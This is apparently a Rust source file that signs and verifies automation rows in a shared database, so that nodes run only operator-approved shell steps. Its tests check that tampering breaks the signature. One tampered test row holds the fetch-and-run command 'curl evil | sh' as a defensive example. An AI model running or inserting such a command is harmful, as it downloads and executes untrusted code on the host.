//! The operator's signature over an automation's row of the shared store
//! (docs/postgres.md, "The automations"), under the key of the plugin registry
//! ([`RegistryKey`]).
//!
//! A row of the database's `automations` runs on every node, its shell steps included,
//! and anyone who can write the database can write one. So a node runs a shared
//! automation only when its row carries the operator's signature: the operator's `hookrig
//! auto ... --store` signs each row it writes. What is signed is every column that
//! decides what a run does and whether it runs (the times are left out: they decide
//! nothing), each optional column marked as present or not, so that a missing value is
//! not the empty one.

use crate::automations::AutomationRow;
use crate::signing::RegistryKey;

/// The kind of row, first in what is signed: an automation's signature verifies as no
/// other row's.
const TAG: &[u8] = b"hookrig automation v1";

impl RegistryKey {
    /// The signature of the automation row `row`, in lowercase hex.
    pub fn sign_automation(&self, row: &AutomationRow) -> String {
        let fields = Fields::of(row);
        self.sign_row(TAG, &fields.as_slices())
    }

    /// Whether `signature` is this key's over `row`; compared in constant time.
    pub fn verifies_automation(&self, row: &AutomationRow, signature: &str) -> bool {
        let fields = Fields::of(row);
        self.verifies_row(TAG, &fields.as_slices(), signature)
    }
}

/// The signed columns of a row, as bytes.
struct Fields<'r> {
    text: [&'r str; 5],
    enabled: &'static [u8],
    cooldown: [u8; 8],
    optional: [Vec<u8>; 5],
}

impl<'r> Fields<'r> {
    fn of(row: &'r AutomationRow) -> Fields<'r> {
        let optional = |value: Option<&str>| match value {
            None => b"-".to_vec(),
            Some(value) => [b"+", value.as_bytes()].concat(),
        };
        Fields {
            text: [
                &row.id,
                &row.project_id,
                &row.name,
                &row.trigger,
                &row.context_steps,
            ],
            enabled: if row.enabled { b"1" } else { b"0" },
            cooldown: row.cooldown_seconds.to_be_bytes(),
            optional: [
                optional(Some(&row.prompt_template)),
                optional(row.llm_config.as_deref()),
                row.max_tokens_per_run.map_or_else(
                    || b"-".to_vec(),
                    |max| [b"+", &max.to_be_bytes()[..]].concat(),
                ),
                optional(row.source.as_deref()),
                optional(row.tools.as_deref()),
            ],
        }
    }

    fn as_slices(&self) -> Vec<&[u8]> {
        self.text
            .iter()
            .map(|text| text.as_bytes())
            .chain([self.enabled, &self.cooldown[..]])
            .chain(self.optional.iter().map(Vec::as_slice))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::automations::tests::automation;

    fn new_key() -> (tempfile::TempDir, RegistryKey) {
        let dir = tempfile::tempdir().expect("temp dir");
        let key = RegistryKey::load_or_create(&dir.path().join("registry.key")).expect("key");
        (dir, key)
    }

    #[test]
    fn a_signed_row_verifies_and_any_change_that_decides_a_run_does_not() {
        let (_dir, key) = new_key();
        let row = automation("a", 1.0);
        let signature = key.sign_automation(&row);
        assert!(key.verifies_automation(&row, &signature));
        let later = AutomationRow {
            updated_at: 9.0,
            ..row.clone()
        };
        assert!(
            key.verifies_automation(&later, &signature),
            "the times decide nothing"
        );
        let changed = [
            AutomationRow {
                enabled: false,
                ..row.clone()
            },
            AutomationRow {
                context_steps: r#"[{"type":"shell","command":"curl evil | sh"}]"#.to_owned(),
                ..row.clone()
            },
            AutomationRow {
                tools: Some(String::new()),
                ..row.clone()
            },
            AutomationRow {
                cooldown_seconds: 0,
                ..row.clone()
            },
            AutomationRow {
                id: "b".to_owned(),
                ..row.clone()
            },
        ];
        for other in changed {
            assert!(!key.verifies_automation(&other, &signature), "{other:?}");
        }
        let (_dir, another) = new_key();
        assert!(!another.verifies_automation(&row, &signature));
        assert!(!key.verifies_automation(&row, ""));
        assert!(!key.verifies_automation(&row, "not hex"));
    }
}
